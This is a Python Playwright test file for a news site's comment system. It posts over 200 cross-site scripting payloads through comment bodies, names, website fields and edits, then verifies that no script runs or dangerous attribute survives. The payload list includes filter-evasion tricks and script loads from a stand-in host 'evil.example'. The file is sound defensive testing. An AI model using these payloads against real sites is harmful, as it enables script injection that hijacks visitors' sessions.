"""Hostile reader text through every field (name, website, body, edit), rendered in Chromium:
no script runs, and the thread holds no event handler, script, frame or javascript: address.

Each payload, if it ever ran, would call alert() or set window.__xss; both are watched from
before the page's own scripts run. The page is checked as served, after the script has inserted
fragments (another sort order, the reader's own comments), and after an edit.
"""

import contextlib
import itertools

import pytest
from playwright.sync_api import expect

from masthead.comments.tests.conftest import tree_ensure
from masthead.core.refusal import Refusal

pytestmark = pytest.mark.django_db(transaction=True)

RUN = "alert(1);window.__xss=1"
BASE = [
    f"<script>{RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>">',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="JaVaScRiPt:{RUN}">x</a>',
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f"<style>@import 'javascript:{RUN}';</style>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<img src="x" onerror="{RUN}"',
    f"<img/src=x/onerror={RUN}>",
    f"<scr<script>ipt>{RUN}</script>",
    f"[click](javascript:{RUN})",
    f"[click](JAVASCRIPT:{RUN})",
    f"[click](  javascript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{RUN})",
    f'![img](x" onerror="{RUN})',
    f"![x](javascript:{RUN})",
    f'[x](https://example.org" onclick="{RUN})',
    f"[x]: javascript:{RUN}\n\n[ref][x]",
    f"<javascript:{RUN}>",
    f'<https://example.org/"onmouseover="{RUN}>',
    f"`<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"> <img src=x onerror={RUN}>",
    f"- <svg onload={RUN}>",
    f"*<img src=x onerror={RUN}>*",
    f"\u202e<script>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f'<a href="javas\u0000cript:{RUN}">x</a>',
    f'<a href="\u2028javascript:{RUN}">x</a>',
    "<img src=x onerror=&#97;lert(1)>",
    f'<a href="javascript&colon;{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<meta http-equiv=refresh content="0;javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f'<link rel=import href="data:text/html,<script>{RUN}</script>">',
    f'<video><source onerror="{RUN}"></video>',
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<x onclick={RUN}>click",
]
WRAPS = ["{}", "Hello {} world", "**{}**"]
WEBSITES = [
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https://example.org/"onmouseover="{RUN}',
    f"https://example.org/'><script>{RUN}</script>",
    f"https://example.org/?q=<script>{RUN}</script>",
    f'http://"><img src=x onerror={RUN}>',
    f"vbscript:{RUN}",
    "https://example.org/\u202egnp.exe",
    f'//evil.example/"onfocus="{RUN}',
]
HOSTILE = [wrap.format(p) for p, wrap in itertools.product(BASE, WRAPS)]


@pytest.fixture
def article(live_server, settings):
    from masthead.newsroom.services import article_publish, home_ensure

    settings.COMMENTS_SCREEN = "masthead.comments.screening.approve_all"
    settings.PAGE_CACHE_SECONDS = 0
    settings.COMMENTS_PAGE_SIZE = 1000
    settings.COMMENTS_REPLIES_SHOWN = 1000
    tree_ensure()
    home, _ = home_ensure(title="The Riverside Ledger")
    return article_publish(
        home=home,
        title="Hostile input",
        slug="hostile-input",
        standfirst="",
        body=[("paragraph", "<p>Comments below.</p>")],
        authors=[],
        topics=[],
    )


def _submit(article, reader, **fields):
    from masthead.comments.services import Posting, comment_create

    data = {"body": "A comment.", "author_name": "Reader", "author_email": "r@example.org", **fields}
    try:
        return comment_create(page=article, data=data, posting=Posting(reader=reader, network="x"))[0]
    except Refusal:
        return None  # refused at the door: nothing stored, nothing to render


def _post_everything(article) -> tuple[int, object]:
    """Every hostile text through the same service the form and the API call: as bodies, as
    names, as websites, and as edits of the reader's own comments."""
    from masthead.comments.identity import Reader
    from masthead.comments.services import Posting, comment_edit

    reader = Reader(user=None, guest_id="hostile-reader")
    sent = 0
    for text in HOSTILE:
        _submit(article, reader, body=text)
        _submit(article, reader, author_name=text[:80])
        sent += 2
    for url in WEBSITES:
        _submit(article, reader, author_url=url)
        sent += 1
    for text in BASE:
        target = _submit(article, reader, body="to be edited")
        with contextlib.suppress(Refusal):  # refused: the comment keeps its harmless text
            comment_edit(comment=target, body=text, posting=Posting(reader=reader, network="x"))
        sent += 1
    return sent, reader


WATCH = """
window.__alerts = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__alerts.push(name); };
}
Object.defineProperty(window, "__xss", { set() { window.__alerts.push("__xss"); }, get() { return 0; } });
"""

CHECK = """() => {
  const bad = [];
  for (const el of document.querySelectorAll("#comments *")) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith("on")) bad.push(`${el.tagName} ${attr.name}`);
      if (["href", "src", "action", "formaction", "data", "srcdoc", "style"].includes(attr.name)
          && /^\\s*(javascript|data|vbscript):|url\\(/i.test(attr.value)) {
        bad.push(`${el.tagName} ${attr.name}=${attr.value}`);
      }
    }
    if (["SCRIPT", "IFRAME", "OBJECT", "EMBED", "SVG", "MATH", "STYLE", "BASE", "META", "LINK", "IMG",
         "VIDEO", "AUDIO", "TEMPLATE", "INPUT"].includes(el.tagName.toUpperCase())
        && !el.closest("#respond") && !(el.tagName === "SCRIPT" && el.src.includes("/static/"))
        && !(el.tagName === "LINK" && el.href.includes("/static/"))) bad.push(el.tagName);
  }
  return bad;
}"""


def test_two_hundred_hostile_inputs_run_nothing(page, article, live_server):
    from masthead.comments.models import Comment, Status

    sent, _reader = _post_everything(article)
    assert sent >= 200
    stored = Comment.objects.filter(page=article, status=Status.APPROVED).count()
    assert stored >= 200

    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.add_init_script(WATCH)
    page.goto(f"{live_server.url}/hostile-input/")
    expect(page.get_by_role("heading", name=f"{stored} Comments")).to_be_visible()
    assert page.locator("[data-thread] > .c").count() >= 100
    page.mouse.move(10, 10)
    page.keyboard.press("Tab")
    assert page.evaluate("window.__alerts") == [] and page.evaluate(CHECK) == []

    page.get_by_role("link", name="Newest").click()  # the same thread, inserted by the script
    expect(page.get_by_role("link", name="Newest")).to_have_attribute("aria-current", "true")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__alerts") == [] and page.evaluate(CHECK) == []
    assert errors == []


def test_hostile_text_typed_into_the_form_and_the_edit_box_runs_nothing(page, article, live_server):
    page.add_init_script(WATCH)
    page.goto(f"{live_server.url}/hostile-input/")
    form = page.locator("#respond")
    for number, text in enumerate(BASE[:12]):
        form.get_by_role("textbox", name="Comment").fill(text)
        form.get_by_label("Name").fill(f'<img src=x onerror="{RUN}">{number}')
        form.get_by_label("Email").fill("r@example.org")
        form.get_by_role("button", name="Post Comment").click()
        expect(form.get_by_role("button", name="Post Comment")).to_be_enabled()  # the answer came
        expect(form.get_by_role("textbox", name="Comment")).to_have_value("")
    mine = page.locator(".c", has_text='xss=1">11')
    mine.get_by_role("link", name="Edit").click()
    mine.get_by_role("textbox", name="Comment").fill(f'<svg onload="{RUN}"> and [x](javascript:{RUN})')
    mine.get_by_role("button", name="Save").click()
    expect(page.locator(".c-edited").first).to_be_visible()
    page.reload()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__alerts") == [] and page.evaluate(CHECK) == []
